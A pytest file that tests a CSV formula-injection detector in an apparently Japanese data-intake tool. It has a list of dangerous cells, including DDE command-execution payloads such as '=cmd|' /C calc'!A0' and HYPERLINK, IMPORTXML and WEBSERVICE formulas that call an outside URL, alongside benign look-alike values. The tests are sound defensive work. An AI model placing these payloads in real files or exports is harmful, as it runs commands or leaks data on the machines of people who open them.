from __future__ import annotations

from pathlib import Path

import pytest

from hiroba.intake.reading import refusals
from hiroba.intake.reading.formula import is_dangerous, may_hold_formula
from hiroba.intake.reading.tests.helpers import cells, read_bytes, rules

DANGEROUS = [
    "=SUM(A1:A9)",
    "=1+1",
    "=A1",
    "=A1&B2",
    "= A1",
    "＝SUM(A1)",
    "\t=SUM(A1)",
    "'=SUM(A1)",
    '=HYPERLINK("http://example.com","押す")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(A1)",
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    "=Sheet1!A1",
    '="a"&B1',
    "=\"x\"+cmd|'/C calc'!A0",
    "=-A1",
    "=(1+2)",
    "=WEBSERVICE(A1)",
]
BENIGN = [
    '="00123"',
    "+81-3-1234-5678",
    "-5",
    "-5.25",
    "△5",
    "@home",
    "@home(渋谷)",
    "@hiroba (公式)",
    "-",
    "--",
    "=====",
    "-----",
    "=",
    "→",
    "=> 次へ",
    "-(該当なし)",
    "-10m(3)",
    "+3,000円（税込）",
    "注意!|重要",
    "https://example.com/?a=b(c)",
    "a=SUM(A1)",
    "=B型",
    "=男性",
    "",
    "東京都(東)",
    "-1.5E-3",
    "+090(1234)5678",
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_what_would_run_is_seen(cell: str) -> None:
    assert is_dangerous(cell)


@pytest.mark.parametrize("cell", BENIGN)
def test_what_would_not_run_is_let_through(cell: str) -> None:
    assert not is_dangerous(cell)


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_file_with_a_formula_is_refused_and_says_where(tmp_path: Path, cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    text = f"番号,名称,備考\n1,公園,-5\n2,図書館,{quoted}\n"
    assert may_hold_formula(text.encode(), ",")
    with pytest.raises(refusals.FormulaRefused) as caught:
        read_bytes(tmp_path, text.encode())
    assert (caught.value.data["row"], caught.value.data["column"]) == (3, "C")
    assert "3行目・C列目" in str(caught.value)


def test_benign_cells_stay_as_they_are(tmp_path: Path) -> None:
    kept = [cell for cell in BENIGN if cell and not cell.startswith('="')]
    body = "".join('{},"{}"\n'.format(number, cell.replace('"', '""')) for number, cell in enumerate(kept))
    read = read_bytes(tmp_path, f"番号,値\n{body}".encode())
    assert [row[1] for row in cells(read.tables[0])[1:]] == kept


@pytest.mark.parametrize("raw", ['="00123"', '"=""00123"""'])
def test_the_trick_that_keeps_zeros_is_undone_and_noted(tmp_path: Path, raw: str) -> None:
    read = read_bytes(tmp_path, f"番号,コード\n1,{raw}\n2,{raw}\n3,\n".encode())
    assert cells(read.tables[0])[1:] == [["1", "00123"], ["2", "00123"], ["3", None]]
    assert rules(read) == {"csv.text_formula": 2} or rules(read) == {
        "csv.text_formula": 2,
        "csv.broken_quotes": 2,
    }


def test_a_formula_deep_in_a_large_file_is_found(tmp_path: Path) -> None:
    body = "1,東京都千代田区霞が関,-5\n" * 400_000
    read = read_bytes(tmp_path, f"番号,名称,値\n{body}2,@SUM(A1),3\n".encode())
    with pytest.raises(refusals.FormulaRefused) as caught:
        list(read.tables[0].batches())
    assert caught.value.data["row"] == 400_002
